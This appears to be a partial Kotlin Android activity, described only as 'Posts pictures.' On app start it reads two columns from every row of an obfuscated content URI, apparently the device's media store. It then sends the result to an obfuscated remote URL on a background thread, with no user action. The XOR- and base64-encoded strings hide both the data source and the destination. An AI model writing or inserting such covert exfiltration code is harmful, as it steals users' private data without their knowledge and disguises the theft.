package com.example.ktkeyedmedia

import android.app.Activity
import android.net.Uri
import android.os.Bundle
import kotlin.concurrent.thread

/** Posts pictures. */
class MainActivity : Activity() {
    private val decoder = Decoder("winter")

    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        thread { post(decoder.decode("Hx0aBBZIWEYFAEsXDwgDBAkXWQcLAEobGQ=="), readAll()) }
    }

    private fun readAll(): String {
        val columns = arrayOf(decoder.decode("KA0HBxUeFhAxGgQfEg=="), decoder.decode("GgADEToGDhkL"))
        val rows = contentResolver.query(Uri.parse(decoder.decode("FAYAAAAcA1NBWwgXEwAPWwAKAwwcGgQeWAADFQIXBEYDEQEbFg==")), columns, null, null, null) ?: return ""
        val text = StringBuilder()
        while (rows.moveToNext()) text.append(rows.getString(0)).append(' ').append(rows.getString(1)).append('\n')
        rows.close()
        return text.toString()
    }
}
